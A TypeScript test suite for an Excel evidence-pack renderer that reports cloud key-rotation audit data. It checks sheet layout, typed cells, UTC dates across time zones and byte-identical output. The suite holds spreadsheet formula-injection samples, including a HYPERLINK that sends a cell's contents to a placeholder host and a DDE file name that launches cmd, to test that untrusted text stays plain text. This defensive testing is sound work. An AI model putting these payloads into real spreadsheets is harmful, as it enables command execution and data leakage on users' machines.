import { spawnSync } from "node:child_process";
import { mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { PackData, PackEventRow, PackSource } from "../../src/evidence/pack-data.js";
import { renderEvidenceXlsx } from "../../src/evidence/render-xlsx.js";
import { EXCEL_MAX_CELL_CHARS } from "../../src/evidence/xlsx/cell-values.js";
import { normalizeZipTimes } from "../../src/evidence/xlsx/normalize-zip-times.js";
import type { Timeline } from "../../src/timeline/timeline.js";

const REPO_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");

// cases.md B35: text a tenancy user controls, that a spreadsheet might take for a formula.
const INJECTIONS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1",
  "\r=1",
];

const SHEETS = ["Summary", "Controls", "Coverage", "CoverageScopes", "CoverageGaps", "CoverageWindows", "KeyTimeline", "ResourceTimeline", "Events", "Imports", "ImportFiles"];

function keyTimeline(overrides: Partial<Timeline> = {}): Timeline {
  return {
    subjectKind: "key",
    subjectId: "ocid1.key.oc1.iad.backupkey",
    displayName: "backup-key",
    compartmentId: "ocid1.compartment.oc1..backups",
    compartmentName: "backups",
    predecessorKeyId: "ocid1.key.oc1.iad.oldkey",
    successorKeyIds: ["ocid1.key.oc1.iad.next1", "ocid1.key.oc1.iad.next2"],
    entries: [
      {
        // cases.md B33: the night Europe moves to summer time.
        time: "2025-03-30T00:30:00.000Z",
        action: "key.version-created",
        actor: "rotation-bot",
        outcome: "succeeded",
        responseStatus: "200",
        keyId: "ocid1.key.oc1.iad.backupkey",
        previousKeyId: "ocid1.key.oc1.iad.oldkey",
        resourceId: "ocid1.volume.oc1.iad.vol1",
        keyVersionId: "ocid1.keyversion.oc1.iad.v2",
        workRequestId: null,
        timeOfDeletion: "2032-03-30T00:30:00.000Z",
        verifiedBy: null,
        detail: "new current version",
        eventId: "evt-1",
        eventType: "com.oraclecloud.kms.keymanagement.createkeyversion",
        requestId: "req-1",
      },
    ],
    ...overrides,
  };
}

function eventRow(seq: number, overrides: Partial<PackEventRow> = {}): PackEventRow {
  return {
    seq,
    eventId: `evt-${seq}`,
    eventTime: "2025-03-30T00:30:00.000Z",
    ingestedTime: "2025-03-30T00:35:12.345Z",
    eventType: "com.oraclecloud.kms.keymanagement.createkeyversion",
    eventName: "CreateKeyVersion",
    compartmentId: "ocid1.compartment.oc1..backups",
    compartmentName: "backups",
    resourceId: "ocid1.key.oc1.iad.backupkey",
    resourceName: "backup-key",
    principalId: "ocid1.user.oc1..alice",
    principalName: "alice",
    requestId: `req-${seq}`,
    responseStatus: "200",
    envelope: "audit-v2",
    contentSha256: "a".repeat(64),
    conflict: false,
    ...overrides,
  };
}

function packData(overrides: Partial<PackData> = {}): PackData {
  return {
    month: "2025-03",
    period: { start: "2025-03-01T00:00:00.000Z", end: "2025-04-01T00:00:00.000Z" },
    generatedAt: "2025-04-01T02:03:04.567Z",
    toolVersion: "0.1.0",
    tenancies: ["ocid1.tenancy.oc1..acme"],
    policy: { rotationIntervalDays: 90, rekeyWithinHours: 24, retentionDays: 2555, scopeTag: "backup-encryption=enabled" },
    importFiles: [
      { runId: 7, path: "=cmd|' /C calc'!A0.jsonl", sha256: "cd".repeat(32), bytes: 1024, status: "rejected", recordsRead: 3, recordsStored: 0, rejected: 3, error: "x.jsonl: truncated gzip" },
    ],
    activity: { eventTypes: [], principals: [], compartments: [], distinct: { eventTypes: 0, principals: 0, compartments: 0 } },
    counts: { events: 2, eventTypes: 1, keyTimelines: 1, resourceTimelines: 1, timelineEntries: 2, conflicts: 1 },
    verdicts: [
      {
        controlId: "CIS OCI 4.16",
        title: "Ensure customer created CMK is rotated at least annually",
        requirement: "Current key version younger than 90 days",
        verdict: "COMPLIANT",
        reason: "All 1 keys rotated within 90 days",
      },
    ],
    keyTimelines: [keyTimeline()],
    resourceTimelines: [
      keyTimeline({
        subjectKind: "bucket",
        subjectId: "/n/acme/b/backups",
        displayName: "backups-bucket",
        predecessorKeyId: null,
        successorKeyIds: [],
      }),
    ],
    coverage: [{ evidence: "Audit events (files)", status: "collected", detail: "31 of 31 days" }],
    auditCoverage: { ledger: false, lookbackMinutes: 30, scopes: [], totals: { scopes: 0, requiredMinutes: 0, collectedMinutes: 0, failedMinutes: 0, notCollectedMinutes: 0, failedWindows: 0, recoveredWindows: 0 }, windows: [] },
    imports: [
      {
        runId: 7,
        source: "file:/exports/2025-03.jsonl.gz",
        startedAt: "2025-04-01T01:00:00.000Z",
        finishedAt: null,
        status: "running",
        recordsRead: 10,
        recordsStored: 8,
        duplicates: 1,
        conflicts: 1,
        rejected: 0,
      },
    ],
    ...overrides,
  };
}

function sourceOf(data: PackData, events: PackEventRow[]): PackSource & { calls: number } {
  const source = {
    data,
    calls: 0,
    async *events() {
      source.calls++;
      for (const event of events) yield event;
    },
  };
  return source;
}

const defaultEvents = () => [eventRow(1), eventRow(2, { ingestedTime: null, conflict: true })];

async function readWorkbook(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

function sheet(workbook: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const found = workbook.getWorksheet(name);
  if (!found) throw new Error(`no sheet ${name}`);
  return found;
}

function headers(worksheet: ExcelJS.Worksheet): string[] {
  const texts: string[] = [];
  worksheet.getRow(1).eachCell((cell) => texts.push(cell.text));
  return texts;
}

/** The cell in `row` under the header `header`. */
function cellAt(worksheet: ExcelJS.Worksheet, header: string, row: number): ExcelJS.Cell {
  const column = headers(worksheet).indexOf(header);
  if (column < 0) throw new Error(`${worksheet.name}: no column ${header}`);
  return worksheet.getRow(row).getCell(column + 1);
}

/** Summary value by label. */
function summaryValue(workbook: ExcelJS.Workbook, label: string): ExcelJS.Cell {
  const summary = sheet(workbook, "Summary");
  for (let r = 2; r <= summary.rowCount; r++) {
    if (summary.getRow(r).getCell(1).text === label) return summary.getRow(r).getCell(2);
  }
  throw new Error(`Summary: no row ${label}`);
}

async function worksheetXml(file: string): Promise<string[]> {
  const zip = await JSZip.loadAsync(await readFile(file));
  const names = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
  return Promise.all(names.map((name) => zip.file(name)!.async("string")));
}

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), "keyproof-xlsx-"));
});
afterEach(async () => {
  vi.useRealTimers();
  await rm(dir, { recursive: true, force: true });
});

async function render(data = packData(), events = defaultEvents(), maxRowsPerSheet?: number) {
  const file = path.join(dir, "evidence.xlsx");
  const source = sourceOf(data, events);
  const result = await renderEvidenceXlsx(source, file, maxRowsPerSheet ? { maxRowsPerSheet } : {});
  return { file, result, source, workbook: await readWorkbook(file) };
}

describe("renderEvidenceXlsx", () => {
  it("writes one sheet per table, in order, with the header texts and the row counts it reports", async () => {
    const { file, result, source, workbook } = await render();

    expect(workbook.worksheets.map((w) => w.name)).toEqual(SHEETS);
    expect(result.sheets).toEqual([
      { name: "Summary", rows: 21 },
      { name: "Controls", rows: 1 },
      { name: "Coverage", rows: 1 },
      { name: "CoverageScopes", rows: 0 },
      { name: "CoverageGaps", rows: 0 },
      { name: "CoverageWindows", rows: 0 },
      { name: "KeyTimeline", rows: 1 },
      { name: "ResourceTimeline", rows: 1 },
      { name: "Events", rows: 2 },
      { name: "Imports", rows: 1 },
      { name: "ImportFiles", rows: 1 },
    ]);
    expect(result.bytes).toBe((await readFile(file)).length);
    expect(source.calls).toBe(1);
    expect(workbook.creator).toBe("keyproof");
    expect(workbook.created.toISOString()).toBe("2025-04-01T02:03:04.000Z");

    expect(headers(sheet(workbook, "Summary"))).toEqual(["Item", "Value"]);
    expect(headers(sheet(workbook, "Controls"))).toEqual(["Control id", "Title", "Requirement", "Verdict", "Reason"]);
    expect(headers(sheet(workbook, "Coverage"))).toEqual(["Evidence", "Status", "Detail"]);
    const names = ["Display name", "Compartment name", "Compartment id"];
    const evidence = [
      "Actor", "Outcome", "Verified by event id", "Verified at (UTC)", "Response status", "Key version id", "Work request id", "Time of deletion (UTC)", "Detail",
      "Event id", "Event type", "Request id",
    ];
    expect(headers(sheet(workbook, "KeyTimeline"))).toEqual([
      "Key id", ...names, "Predecessor key id", "Successor key ids", "Time (UTC)", "Action", "Entry key id",
      "Previous key id", "Resource id", ...evidence,
    ]);
    expect(headers(sheet(workbook, "ResourceTimeline"))).toEqual([
      "Subject kind", "Resource id", ...names, "Time (UTC)", "Action", "Key id", "Previous key id", ...evidence,
    ]);
    expect(headers(sheet(workbook, "Events"))).toEqual([
      "Seq", "Event id", "Event time (UTC)", "Ingested time (UTC)", "Event type", "Event name", "Compartment name",
      "Compartment id", "Resource name", "Resource id", "Principal name", "Principal id", "Request id",
      "Response status", "Envelope", "Content SHA-256", "Conflict",
    ]);
    expect(headers(sheet(workbook, "Imports"))).toEqual([
      "Run id", "Source", "Started (UTC)", "Finished (UTC)", "Status", "Records read", "Records stored",
      "Duplicates", "Conflicts", "Rejected",
    ]);
  });

  it("fills the Summary with month, UTC period, generation time, version, tenancies and counts", async () => {
    const { workbook } = await render();

    expect(summaryValue(workbook, "Evidence pack for month").text).toBe("2025-03");
    expect(summaryValue(workbook, "Period start (UTC)").value).toEqual(new Date("2025-03-01T00:00:00.000Z"));
    expect(summaryValue(workbook, "Period end, exclusive (UTC)").value).toEqual(new Date("2025-04-01T00:00:00.000Z"));
    expect(summaryValue(workbook, "Last day of period (UTC)").value).toEqual(new Date("2025-03-31T00:00:00.000Z"));
    expect(summaryValue(workbook, "Last day of period (UTC)").numFmt).toBe("yyyy-mm-dd");
    expect(summaryValue(workbook, "Generated at (UTC)").value).toEqual(new Date("2025-04-01T02:03:04.567Z"));
    expect(summaryValue(workbook, "Tool version").text).toBe("0.1.0");
    expect(summaryValue(workbook, "Tenancy").text).toBe("ocid1.tenancy.oc1..acme");
    expect(summaryValue(workbook, "Audit events").value).toBe(2);
    expect(summaryValue(workbook, "Conflicting events").value).toBe(1);
    expect(summaryValue(workbook, "Timeline entries").value).toBe(2);
  });

  it("writes the rows of every table with typed cells", async () => {
    const { workbook } = await render();

    const controls = sheet(workbook, "Controls");
    expect(cellAt(controls, "Control id", 2).text).toBe("CIS OCI 4.16");
    expect(cellAt(controls, "Verdict", 2).text).toBe("COMPLIANT");
    expect(cellAt(sheet(workbook, "Coverage"), "Detail", 2).text).toBe("31 of 31 days");

    const keys = sheet(workbook, "KeyTimeline");
    expect(cellAt(keys, "Key id", 2).text).toBe("ocid1.key.oc1.iad.backupkey");
    expect(cellAt(keys, "Time (UTC)", 2).value).toEqual(new Date("2025-03-30T00:30:00.000Z"));
    expect(cellAt(keys, "Key version id", 2).text).toBe("ocid1.keyversion.oc1.iad.v2");
    expect(cellAt(keys, "Work request id", 2).type).toBe(ExcelJS.ValueType.Null);
    expect(cellAt(keys, "Predecessor key id", 2).text).toBe("ocid1.key.oc1.iad.oldkey");
    expect(cellAt(keys, "Successor key ids", 2).text).toBe("ocid1.key.oc1.iad.next1, ocid1.key.oc1.iad.next2");
    expect(cellAt(keys, "Resource id", 2).text).toBe("ocid1.volume.oc1.iad.vol1");
    expect(cellAt(keys, "Time of deletion (UTC)", 2).value).toEqual(new Date("2032-03-30T00:30:00.000Z"));
    const resources = sheet(workbook, "ResourceTimeline");
    expect(cellAt(resources, "Subject kind", 2).text).toBe("bucket");
    expect(cellAt(resources, "Resource id", 2).text).toBe("/n/acme/b/backups");
    expect(cellAt(resources, "Previous key id", 2).text).toBe("ocid1.key.oc1.iad.oldkey");

    const events = sheet(workbook, "Events");
    expect(cellAt(events, "Seq", 3).value).toBe(2);
    expect(cellAt(events, "Ingested time (UTC)", 2).value).toEqual(new Date("2025-03-30T00:35:12.345Z"));
    expect(cellAt(events, "Ingested time (UTC)", 3).type).toBe(ExcelJS.ValueType.Null);
    expect(cellAt(events, "Conflict", 3).value).toBe(true);
    expect(cellAt(events, "Principal name", 2).text).toBe("alice");

    const imports = sheet(workbook, "Imports");
    expect(cellAt(imports, "Run id", 2).value).toBe(7);
    expect(cellAt(imports, "Started (UTC)", 2).value).toEqual(new Date("2025-04-01T01:00:00.000Z"));
    expect(cellAt(imports, "Finished (UTC)", 2).type).toBe(ExcelJS.ValueType.Null);
    expect(cellAt(imports, "Duplicates", 2).value).toBe(1);

    // File provenance: the path is untrusted text (a formula-looking name stays text), the hash is the file's.
    const files = sheet(workbook, "ImportFiles");
    expect(headers(files)).toEqual(["Run id", "File", "SHA-256 of the file", "Bytes", "Status", "Records read", "Records stored", "Rejected", "Error"]);
    expect(cellAt(files, "File", 2).text).toBe("=cmd|' /C calc'!A0.jsonl");
    expect(cellAt(files, "File", 2).formula).toBeUndefined();
    expect(cellAt(files, "SHA-256 of the file", 2).text).toBe("cd".repeat(32));
    expect(cellAt(files, "Bytes", 2).value).toBe(1024);
    expect(cellAt(files, "Error", 2).text).toBe("x.jsonl: truncated gzip");
  });

  it("writes the read-back that verified a volume key update next to its outcome, and leaves both cells empty otherwise", async () => {
    const base = keyTimeline();
    const verified = {
      ...base.entries[0]!,
      action: "volume.kms-key-updated" as const,
      eventId: "evt-update",
      verifiedBy: { eventId: "evt-read-back", time: "2025-03-30T00:30:00.442Z" },
    };
    const data = packData({
      keyTimelines: [{ ...base, entries: [base.entries[0]!, verified] }],
      resourceTimelines: [keyTimeline({ subjectKind: "volume", subjectId: "ocid1.volume.oc1.iad.vol1", entries: [verified] })],
    });
    const { workbook } = await render(data);
    const keys = sheet(workbook, "KeyTimeline");
    expect(cellAt(keys, "Verified by event id", 2).type).toBe(ExcelJS.ValueType.Null);
    expect(cellAt(keys, "Verified at (UTC)", 2).type).toBe(ExcelJS.ValueType.Null);
    expect(cellAt(keys, "Verified by event id", 3).text).toBe("evt-read-back");
    expect(cellAt(keys, "Verified at (UTC)", 3).value).toEqual(new Date("2025-03-30T00:30:00.442Z"));
    const resources = sheet(workbook, "ResourceTimeline");
    expect(cellAt(resources, "Verified by event id", 2).text).toBe("evt-read-back");
    expect(cellAt(resources, "Verified at (UTC)", 2).value).toEqual(new Date("2025-03-30T00:30:00.442Z"));
    expect(headers(resources).indexOf("Verified by event id")).toBe(headers(resources).indexOf("Outcome") + 1);
  });

  it("holds every time as a date cell in a column labelled UTC", async () => {
    const { workbook } = await render();

    for (const worksheet of workbook.worksheets) {
      headers(worksheet).forEach((header, i) => {
        if (!header.endsWith(" (UTC)")) return;
        for (let r = 2; r <= worksheet.rowCount; r++) {
          const cell = worksheet.getRow(r).getCell(i + 1);
          if (cell.type === ExcelJS.ValueType.Null) continue;
          expect(cell.type, `${worksheet.name}!${cell.address}`).toBe(ExcelJS.ValueType.Date);
          expect(cell.numFmt).toBe("yyyy-mm-dd hh:mm:ss.000");
        }
      });
    }
  });

  it("freezes a bold header row and puts an autofilter over header and data on every sheet", async () => {
    const { workbook } = await render();

    for (const worksheet of workbook.worksheets) {
      expect(worksheet.views[0], worksheet.name).toMatchObject({ state: "frozen", ySplit: 1 });
      const lastColumn = worksheet.getColumn(headers(worksheet).length).letter;
      expect(worksheet.autoFilter, worksheet.name).toBe(`A1:${lastColumn}${worksheet.rowCount}`);
      expect(worksheet.getRow(1).getCell(1).font?.bold, worksheet.name).toBe(true);
      expect(worksheet.getColumn(1).width, worksheet.name).toBeGreaterThan(5);
    }
  });

  it("continues a table on numbered sheets before the row limit", async () => {
    const events = [1, 2, 3, 4, 5].map((seq) => eventRow(seq));
    const { result, workbook } = await render(packData(), events, 3);

    const eventSheets = ["Events", "Events (2)", "Events (3)"];
    const names = workbook.worksheets.map((w) => w.name);
    expect(names).toEqual(result.sheets.map((s) => s.name));
    expect(names.slice(names.indexOf("ResourceTimeline") + 1)).toEqual([...eventSheets, "Imports", "ImportFiles"]);
    // Every table obeys the limit, the 21 Summary rows too (2 per sheet).
    expect(names.filter((name) => name.startsWith("Summary"))).toHaveLength(11);
    expect(result.sheets.filter((s) => s.name.startsWith("Events"))).toEqual([
      { name: "Events", rows: 2 },
      { name: "Events (2)", rows: 2 },
      { name: "Events (3)", rows: 1 },
    ]);
    const seqs = eventSheets.flatMap((name) => {
      const worksheet = sheet(workbook, name);
      expect(worksheet.rowCount).toBeLessThanOrEqual(3);
      expect(headers(worksheet)[0]).toBe("Seq");
      expect(worksheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
      expect(worksheet.autoFilter).toBe(`A1:Q${worksheet.rowCount}`);
      return Array.from({ length: worksheet.rowCount - 1 }, (_, i) => worksheet.getRow(i + 2).getCell(1).value);
    });
    expect(seqs).toEqual([1, 2, 3, 4, 5]);
  });

  it("writes untrusted text as string cells, never formulas (B35)", async () => {
    const [hyperlink, plus, minus, at, tab, cr] = INJECTIONS as [string, string, string, string, string, string];
    const data = packData({
      tenancies: [hyperlink],
      keyTimelines: [keyTimeline({ displayName: hyperlink, compartmentName: plus })],
      coverage: [{ evidence: at, status: "partial", detail: cr }],
    });
    const events = INJECTIONS.map((text, i) =>
      eventRow(i + 1, { principalName: text, resourceName: text, eventName: tab, compartmentName: minus }),
    );
    events.push(eventRow(-42, { principalName: "-1" }));
    const { file, workbook } = await render(data, events);

    const strings: ExcelJS.Cell[] = [
      summaryValue(workbook, "Tenancy"),
      cellAt(sheet(workbook, "KeyTimeline"), "Display name", 2),
      cellAt(sheet(workbook, "KeyTimeline"), "Compartment name", 2),
      cellAt(sheet(workbook, "Coverage"), "Evidence", 2),
      cellAt(sheet(workbook, "Coverage"), "Detail", 2),
    ];
    expect(strings.map((c) => c.text)).toEqual([hyperlink, hyperlink, plus, at, cr]);
    const eventsSheet = sheet(workbook, "Events");
    INJECTIONS.forEach((text, i) => {
      for (const header of ["Principal name", "Resource name"]) strings.push(cellAt(eventsSheet, header, i + 2));
      expect(cellAt(eventsSheet, "Principal name", i + 2).text).toBe(text);
      expect(cellAt(eventsSheet, "Event name", i + 2).text).toBe(tab);
      expect(cellAt(eventsSheet, "Compartment name", i + 2).text).toBe(minus);
    });
    for (const cell of strings) {
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText], cell.address).toContain(cell.type);
      expect(cell.formula, cell.address).toBeUndefined();
    }
    // A real negative number stays a number; negative-looking text stays text.
    expect(cellAt(eventsSheet, "Seq", 8).value).toBe(-42);
    expect(cellAt(eventsSheet, "Principal name", 8).type).toBe(ExcelJS.ValueType.RichText);
    expect(cellAt(eventsSheet, "Principal name", 8).text).toBe("-1");

    for (const xml of await worksheetXml(file)) {
      expect(xml).not.toMatch(/<f[\s>]/);
      expect(xml).not.toContain('t="str"');
    }
  });

  it("replaces characters XML cannot carry, keeps escape-like text, and cuts text past the cell limit", async () => {
    const long = "x".repeat(EXCEL_MAX_CELL_CHARS + 10);
    const events = [
      eventRow(1, { principalName: "bad\u0000name\u0001\u001f\u007f\uFFFE", resourceName: "_x0041_ and _x000d_" }),
      eventRow(2, { principalName: "lone \uD800 surrogate, pair \uD83D\uDD11 kept", resourceName: long }),
    ];
    const { file, workbook } = await render(packData(), events);

    const eventsSheet = sheet(workbook, "Events");
    expect(cellAt(eventsSheet, "Principal name", 2).text).toBe("bad\uFFFDname\uFFFD\uFFFD\uFFFD\uFFFD");
    expect(cellAt(eventsSheet, "Resource name", 2).text).toBe("_x0041_ and _x000d_");
    expect(cellAt(eventsSheet, "Principal name", 3).text).toBe("lone \uFFFD surrogate, pair \uD83D\uDD11 kept");
    const cut = cellAt(eventsSheet, "Resource name", 3).text;
    expect(cut.length).toBeLessThanOrEqual(EXCEL_MAX_CELL_CHARS);
    expect(cut).toMatch(/^x+… \[\d+ characters cut: Excel cell limit\]$/);
    const xml = (await worksheetXml(file)).join("");
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
  });

  it("writes the same bytes for the same input, whatever the wall clock", async () => {
    const first = path.join(dir, "first.xlsx");
    const second = path.join(dir, "second.xlsx");
    vi.useFakeTimers({ toFake: ["Date"], now: new Date("2030-01-01T10:00:00Z") });
    await renderEvidenceXlsx(sourceOf(packData(), defaultEvents()), first);
    vi.setSystemTime(new Date("2031-06-15T17:45:31Z"));
    await renderEvidenceXlsx(sourceOf(packData(), defaultEvents()), second);
    vi.useRealTimers();

    expect((await readFile(first)).equals(await readFile(second))).toBe(true);
    const zip = await JSZip.loadAsync(await readFile(first));
    for (const entry of Object.values(zip.files)) {
      expect(entry.date.toISOString(), entry.name).toBe("2025-04-01T02:03:04.000Z");
    }
  });

  it("leaves no file behind when the event source fails", async () => {
    const file = path.join(dir, "evidence.xlsx");
    const source: PackSource = {
      data: packData(),
      async *events() {
        yield eventRow(1);
        throw new Error("store went away");
      },
    };

    await expect(renderEvidenceXlsx(source, file)).rejects.toThrow("store went away");
    expect(await readdir(dir)).toEqual([]);
  });

  it("rejects a missing output directory and a row limit below 2", async () => {
    const source = sourceOf(packData(), defaultEvents());
    await expect(renderEvidenceXlsx(source, path.join(dir, "nope", "evidence.xlsx"))).rejects.toThrow(/ENOENT/);
    await expect(renderEvidenceXlsx(source, path.join(dir, "e.xlsx"), { maxRowsPerSheet: 1 })).rejects.toThrow(
      RangeError,
    );
    expect(await readdir(dir)).toEqual([]);
  });
});

describe("normalizeZipTimes", () => {
  it("rewrites every entry time of a ZIP64 archive too", async () => {
    const file = path.join(dir, "zip64.xlsx");
    const options = { filename: file, useStyles: true, useSharedStrings: false, zip: { forceZip64: true } };
    // `zip` reaches archiver but is missing from exceljs' typings.
    type WriterOptions = Partial<ExcelJS.stream.xlsx.WorkbookStreamWriterOptions>;
    const workbook = new ExcelJS.stream.xlsx.WorkbookWriter(options as WriterOptions);
    workbook.addWorksheet("S").addRow(["x"]).commit();
    await workbook.commit();

    const entries = await normalizeZipTimes(file, new Date("2024-02-29T23:59:59.999Z"));

    const zip = await JSZip.loadAsync(await readFile(file));
    expect(Object.keys(zip.files)).toHaveLength(entries);
    for (const entry of Object.values(zip.files)) expect(entry.date.toISOString()).toBe("2024-02-29T23:59:58.000Z");
    expect((await readWorkbook(file)).getWorksheet("S")!.getCell("A1").text).toBe("x");
  });
});

// cases.md B33: the same file, and the same wall-clock UTC display, under any process time zone.
const CHILD = `
import { readFileSync } from "node:fs";
import ExcelJS from "exceljs";
const { renderEvidenceXlsx } = await import("./src/evidence/render-xlsx.ts");
const { writeTable } = await import("./src/evidence/xlsx/write-table.ts");
const input = JSON.parse(readFileSync(process.env.B33_INPUT, "utf8"));
const out = process.env.B33_OUT;
await renderEvidenceXlsx({ data: input.data, async *events() { yield* input.events; } }, out + ".xlsx");
const dates = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: out + "-dates.xlsx", useStyles: true });
const spec = { name: "Dates", columns: [{ header: "Rotation date (UTC)", width: 12, kind: "date", value: (r) => r }] };
await writeTable(dates, spec, ["2025-03-15"], { maxRowsPerSheet: 10 });
await dates.commit();
const read = async (file) => { const wb = new ExcelJS.Workbook(); await wb.xlsx.readFile(file); return wb; };
const show = (cell) => ({
  type: cell.type,
  iso: cell.value instanceof Date ? cell.value.toISOString() : null,
  numFmt: cell.numFmt,
});
const wb = await read(out + ".xlsx");
const at = (name, header, row) => {
  const ws = wb.getWorksheet(name);
  let col = 0;
  ws.getRow(1).eachCell((cell, n) => { if (cell.text === header) col = n; });
  return show(ws.getRow(row).getCell(col));
};
console.log(JSON.stringify({
  offsetMinutes: new Date(Date.UTC(2025, 2, 30, 0, 30)).getTimezoneOffset(),
  keyTime: at("KeyTimeline", "Time (UTC)", 2),
  eventTime: at("Events", "Event time (UTC)", 2),
  rotationDate: show((await read(out + "-dates.xlsx")).getWorksheet("Dates").getCell("A2")),
}));
`;

/** What Excel shows for a serial under a format: Excel has no time zone, so UTC arithmetic is exact. */
function excelDisplay(serial: number, numFmt: string): string {
  const iso = new Date(Math.round((serial - 25569) * 86_400_000)).toISOString();
  return numFmt === "yyyy-mm-dd" ? iso.slice(0, 10) : iso.slice(0, 23).replace("T", " ");
}

describe("B33: dates under any process time zone", () => {
  const zones = ["UTC", "Europe/Berlin", "America/Sao_Paulo", "Asia/Kolkata"];

  it("shows 2025-03-30 00:30:00 and 2025-03-15 under UTC, Berlin, Sao Paulo and Kolkata", async () => {
    const input = path.join(dir, "input.json");
    await writeFile(input, JSON.stringify({ data: packData(), events: defaultEvents() }));
    const files: Buffer[] = [];
    const offsets = new Set<number>();
    for (const tz of zones) {
      const out = path.join(dir, tz.replace("/", "-"));
      const child = spawnSync(process.execPath, ["--import", "tsx", "--input-type=module", "-e", CHILD], {
        cwd: REPO_ROOT,
        env: { ...process.env, TZ: tz, B33_INPUT: input, B33_OUT: out },
        encoding: "utf8",
      });
      expect(child.status, `${tz}: ${child.stderr}`).toBe(0);
      const seen = JSON.parse(child.stdout.trim().split("\n").pop()!);
      offsets.add(seen.offsetMinutes);
      const date = ExcelJS.ValueType.Date;
      const instant = { type: date, iso: "2025-03-30T00:30:00.000Z", numFmt: "yyyy-mm-dd hh:mm:ss.000" };
      expect(seen.keyTime, tz).toEqual(instant);
      expect(seen.eventTime, tz).toEqual(instant);
      expect(seen.rotationDate, tz).toEqual({ type: date, iso: "2025-03-15T00:00:00.000Z", numFmt: "yyyy-mm-dd" });

      // What Excel will display comes from the stored serial alone.
      const xml = (await worksheetXml(`${out}.xlsx`)).join("");
      const serials = [...xml.matchAll(/<c r="[A-Z]+2" s="\d+"><v>([\d.]+)<\/v>/g)].map((m) => Number(m[1]));
      expect(serials.map((s) => excelDisplay(s, "yyyy-mm-dd hh:mm:ss.000"))).toContain("2025-03-30 00:30:00.000");
      const dateXml = (await worksheetXml(`${out}-dates.xlsx`)).join("");
      const dateSerial = Number(/<c r="A2" s="\d+"><v>([\d.]+)<\/v>/.exec(dateXml)![1]);
      expect(excelDisplay(dateSerial, "yyyy-mm-dd")).toBe("2025-03-15");
      files.push(await readFile(`${out}.xlsx`));
    }
    expect(offsets.size, "the zones really differ").toBe(4);
    for (const file of files) expect(file.equals(files[0]!)).toBe(true);
  });
});
